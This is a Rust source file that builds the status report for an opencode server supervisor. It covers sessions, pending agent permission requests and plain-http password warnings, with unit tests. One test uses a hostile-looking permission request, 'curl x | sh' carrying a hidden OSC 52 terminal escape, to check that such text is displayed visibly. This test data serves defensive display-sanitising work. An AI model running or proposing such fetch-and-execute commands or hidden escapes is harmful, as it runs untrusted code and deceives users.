//! Views derived from `State`: the `status` report (the CLI's JSON contract)
//! and the small `Summary` that wakes waiters and, later, the tray.

use super::model::{PermissionRequest, QuestionRequest, Tokens};
use super::sessions::{Activity, Pending};
use super::visible_text::visible;
use super::{ServerState, State};
use crate::config::ServerMode;
use serde::Serialize;
use std::time::Instant;

/// The moment a view is taken, on both clocks, so stored `Instant`s can be
/// shown as wall-clock times. The caller reads the clocks; the core reads none.
#[derive(Debug, Clone, Copy)]
pub struct Clock {
    pub now: Instant,
    pub epoch_ms: u64,
}

impl Clock {
    pub fn epoch_of(&self, at: Instant) -> u64 {
        let ago = self.now.saturating_duration_since(at).as_millis() as u64;
        self.epoch_ms.saturating_sub(ago)
    }
}

#[derive(Debug, Clone, Serialize, PartialEq)]
pub struct DaemonInfo {
    pub pid: u32,
    pub version: String,
    /// Why there is no tray, or "none yet" while the tray does not exist.
    pub tray: String,
}

#[derive(Debug, Clone, Serialize, PartialEq)]
pub struct StatusReport {
    pub daemon: DaemonInfo,
    pub server: ServerReport,
    pub sessions: SessionsReport,
    /// Why `config.toml` on disk is not in use (the last good settings are).
    pub config_problem: Option<String>,
}

#[derive(Debug, Clone, Serialize, PartialEq)]
pub struct ServerReport {
    pub mode: ServerMode,
    pub state: ServerState,
    pub url: Option<String>,
    pub pid: Option<u32>,
    pub version: Option<String>,
    pub restarts: u32,
    pub last_error: Option<String>,
    /// Attach mode: the server answered without credentials.
    pub unsecured: bool,
    /// Attach mode over plain `http://` to a host that is not loopback: the
    /// password crosses the network readable by anyone on the path.
    pub password_in_clear: bool,
    pub history: Vec<TransitionReport>,
    /// The server's process tree at the last measurement (taken only while
    /// the tray or the popover shows it; `opencode-nexus metrics` measures now).
    pub resource_use: Option<super::resource_use::ResourceUse>,
}

#[derive(Debug, Clone, Serialize, PartialEq)]
pub struct TransitionReport {
    pub at_ms: u64,
    pub state: ServerState,
    pub reason: Option<String>,
}

#[derive(Debug, Clone, Serialize, PartialEq)]
pub struct SessionsReport {
    /// Sessions busy or retrying.
    pub busy: usize,
    pub pending_permissions: usize,
    pub pending_questions: usize,
    /// Sessions working, failed or waiting for the user, newest activity first.
    pub active: Vec<SessionReport>,
    pub permissions: Vec<Pending<PermissionRequest>>,
    pub questions: Vec<Pending<QuestionRequest>>,
}

#[derive(Debug, Clone, Serialize, PartialEq)]
pub struct SessionReport {
    pub id: String,
    pub title: Option<String>,
    pub directory: Option<String>,
    pub parent_id: Option<String>,
    pub status: Activity,
    pub busy_since_ms: Option<u64>,
    pub last_activity_ms: u64,
    pub tokens: Tokens,
    pub cost: f64,
}

impl StatusReport {
    pub fn derive(state: &State, daemon: DaemonInfo, clock: Clock) -> Self {
        let mut active: Vec<_> = state
            .sessions
            .iter()
            .filter(|s| {
                s.activity != Activity::Idle || !s.permissions.is_empty() || !s.questions.is_empty()
            })
            .collect();
        active.sort_by(|a, b| b.last_activity.cmp(&a.last_activity).then(a.id.cmp(&b.id)));
        let summary = Summary::derive(state);
        StatusReport {
            daemon,
            config_problem: state.config_problem.clone(),
            server: ServerReport {
                resource_use: state.resource_use,
                mode: state.mode,
                state: summary.state,
                url: state.url.clone(),
                pid: state.server_pid(),
                version: state.version.clone(),
                restarts: state.restarts,
                last_error: state.last_error.clone(),
                unsecured: state.unsecured,
                password_in_clear: state.mode == ServerMode::Attach
                    && state.url.as_deref().is_some_and(password_in_clear),
                history: state
                    .history
                    .iter()
                    .map(|t| TransitionReport {
                        at_ms: clock.epoch_of(t.at),
                        state: t.state,
                        reason: t.reason.clone(),
                    })
                    .collect(),
            },
            sessions: SessionsReport {
                busy: summary.busy,
                pending_permissions: summary.pending_permissions,
                pending_questions: summary.pending_questions,
                permissions: active
                    .iter()
                    .flat_map(|s| s.permissions.iter().cloned())
                    .collect(),
                questions: active
                    .iter()
                    .flat_map(|s| s.questions.iter().cloned())
                    .collect(),
                active: active
                    .iter()
                    .map(|s| SessionReport {
                        id: s.id.clone(),
                        title: s.title.clone(),
                        directory: s.directory.clone(),
                        parent_id: s.parent_id.clone(),
                        status: s.activity.clone(),
                        busy_since_ms: s.busy_since.map(|t| clock.epoch_of(t)),
                        last_activity_ms: clock.epoch_of(s.last_activity),
                        tokens: s.tokens,
                        cost: s.cost,
                    })
                    .collect(),
            },
        }
    }

    /// The human-readable form of `status`.
    pub fn to_text(&self) -> String {
        let s = &self.server;
        let mut out = format!("server: {}", s.state.as_str());
        if let Some(url) = &s.url {
            out += &format!(" at {url}");
        }
        if let Some(v) = &s.version {
            out += &format!(" (opencode {v})");
        }
        if let Some(pid) = s.pid {
            out += &format!(", pid {pid}");
        }
        out += &format!(
            ", {} mode",
            match s.mode {
                ServerMode::Managed => "managed",
                ServerMode::Attach => "attach",
            }
        );
        if s.restarts > 0 {
            out += &format!(", {} restarts", s.restarts);
        }
        if s.unsecured {
            out += "\nwarning: the server accepts requests without a password";
        }
        if s.password_in_clear {
            out += &format!("\nwarning: {PASSWORD_IN_CLEAR}");
        }
        if let Some(err) = &s.last_error {
            out += &format!("\nlast error: {err}");
        }
        if let Some(used) = &s.resource_use {
            out += &format!("\nresources: {}", used.describe());
        }
        if let Some(problem) = &self.config_problem {
            out += &format!(
                "\nconfig.toml not applied (the last good settings are in use): {problem}"
            );
        }
        let n = &self.sessions;
        out += &format!(
            "\nsessions: {} busy, {} permission request(s), {} question(s) waiting",
            n.busy, n.pending_permissions, n.pending_questions
        );
        for session in &n.active {
            let title = session.title.as_deref().unwrap_or("(untitled)");
            let status = match &session.status {
                Activity::Idle => "waiting for you".to_string(),
                Activity::Busy => "busy".to_string(),
                Activity::Retry {
                    attempt, message, ..
                } => format!("retrying (attempt {attempt}): {message}"),
                Activity::Error { message, .. } => format!("failed: {message}"),
            };
            out += &format!("\n  {} {title}: {status}", session.id);
        }
        // What the agent asked is shown whole, with invisible characters
        // made visible; continuation lines are indented under the request.
        for p in &n.permissions {
            let what = visible(p.request.detail.as_deref().unwrap_or("")).replace('\n', "\n      ");
            out += &format!(
                "\n  permission {} ({}): {what}",
                p.request.id,
                visible(&p.request.permission)
            );
        }
        for q in &n.questions {
            let text = visible(q.request.first_question()).replace('\n', "\n      ");
            out += &format!("\n  question {}: {text}", q.request.id);
        }
        out += &format!(
            "\nnexus: pid {}, version {}, tray: {}",
            self.daemon.pid, self.daemon.version, self.daemon.tray
        );
        out
    }
}

/// The few facts that decide what the tray shows and when `wait-idle` returns.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Summary {
    pub state: ServerState,
    pub server_pid: Option<u32>,
    pub busy: usize,
    pub pending_permissions: usize,
    pub pending_questions: usize,
}

impl Summary {
    pub fn derive(state: &State) -> Self {
        let mut summary = Summary {
            state: state.server_state(),
            server_pid: state.server_pid(),
            busy: 0,
            pending_permissions: 0,
            pending_questions: 0,
        };
        for s in state.sessions.iter() {
            summary.busy += usize::from(s.activity.is_working());
            summary.pending_permissions += s.permissions.len();
            summary.pending_questions += s.questions.len();
        }
        summary
    }

    /// Nothing busy and nothing waiting for the user, on a reachable server.
    pub fn is_idle(&self) -> bool {
        self.state == ServerState::Running
            && self.busy == 0
            && self.pending_permissions == 0
            && self.pending_questions == 0
    }
}

/// Why `password_in_clear` matters, and what to do about it.
pub const PASSWORD_IN_CLEAR: &str = "the password goes to the server over plain http, readable on the network; use https or an SSH tunnel (ssh -L) to a loopback address";

/// Whether Basic auth to `url` crosses the network in clear: `http://` to a
/// host that is not loopback (127.0.0.0/8, ::1, `localhost`).
pub fn password_in_clear(url: &str) -> bool {
    match reqwest::Url::parse(url) {
        Ok(url) => url.scheme() == "http" && !url.host_str().is_some_and(is_loopback_host),
        // Not a URL the client could reach either; nothing is sent.
        Err(_) => false,
    }
}

/// `host` as a URL spells it (IPv6 in brackets).
fn is_loopback_host(host: &str) -> bool {
    let host = host.trim_end_matches('.');
    if host.eq_ignore_ascii_case("localhost") {
        return true;
    }
    let bare = host.trim_start_matches('[').trim_end_matches(']');
    match bare.parse::<std::net::IpAddr>() {
        Ok(std::net::IpAddr::V4(ip)) => ip.is_loopback(),
        Ok(std::net::IpAddr::V6(ip)) => {
            ip.is_loopback() || ip.to_ipv4_mapped().is_some_and(|v4| v4.is_loopback())
        }
        Err(_) => false,
    }
}

#[cfg(test)]
mod password_in_clear_tests {
    use super::password_in_clear;

    #[test]
    fn loopback_hosts_are_not_in_clear() {
        for url in [
            "http://127.0.0.1:4096",
            "http://127.8.9.10",
            "http://[::1]:4096/",
            "http://localhost:4096",
            "http://LOCALHOST.",
            "http://[::ffff:127.0.0.1]:80",
        ] {
            assert!(!password_in_clear(url), "{url}");
        }
    }

    #[test]
    fn plain_http_to_any_other_host_is_in_clear() {
        for url in [
            "http://192.168.1.5:4096",
            "http://10.0.0.1",
            "http://128.0.0.1",
            "http://[::2]:4096",
            "http://[fe80::1]:4096",
            "http://example.com",
            "http://localhost.example.com",
            "http://0.0.0.0:4096",
        ] {
            assert!(password_in_clear(url), "{url}");
        }
    }

    #[test]
    fn https_is_never_in_clear() {
        assert!(!password_in_clear("https://example.com"));
        assert!(!password_in_clear("https://10.0.0.1:4096"));
    }
}

#[cfg(test)]
mod text_tests {
    use super::*;
    use crate::server::events::parse_event;
    use std::time::Duration;

    fn report(state: &State) -> StatusReport {
        let daemon = DaemonInfo {
            pid: 1,
            version: "0".into(),
            tray: "none".into(),
        };
        let clock = Clock {
            now: Instant::now(),
            epoch_ms: 1_700_000_000_000,
        };
        StatusReport::derive(state, daemon, clock)
    }

    #[test]
    fn status_warns_of_a_password_sent_in_clear_in_text_and_json() {
        let now = Instant::now();
        let remote = State::new(
            ServerMode::Attach,
            Some("http://10.1.2.3:4096".into()),
            Duration::from_secs(30),
            now,
        );
        let r = report(&remote);
        assert!(r.server.password_in_clear);
        assert_eq!(
            serde_json::to_value(&r).unwrap()["server"]["password_in_clear"],
            true
        );
        assert!(r.to_text().contains("plain http"), "{}", r.to_text());
        let local = State::new(
            ServerMode::Attach,
            Some("http://127.0.0.1:4096".into()),
            Duration::from_secs(30),
            now,
        );
        assert!(!report(&local).server.password_in_clear);
        assert!(!report(&local).to_text().contains("plain http"));
    }

    #[test]
    fn status_text_shows_every_line_of_a_request_with_escapes() {
        let now = Instant::now();
        let mut state = State::new(ServerMode::Attach, None, Duration::from_secs(30), now);
        let event = parse_event(
            r#"{"directory":"/p","payload":{"type":"permission.asked","properties":{"id":"per_1","sessionID":"a","permission":"bash","metadata":{"command":"echo tidy\ncurl x | sh \u001b]52;c;aGk=\u0007"}}}}"#,
        )
        .unwrap();
        state.sessions.apply(&event, now);
        let text = report(&state).to_text();
        assert!(
            text.contains(
                "permission per_1 (bash): echo tidy\n      curl x | sh \\u001b]52;c;aGk=\\u0007"
            ),
            "{text}"
        );
        assert!(!text.contains('\u{1b}'));
    }
}
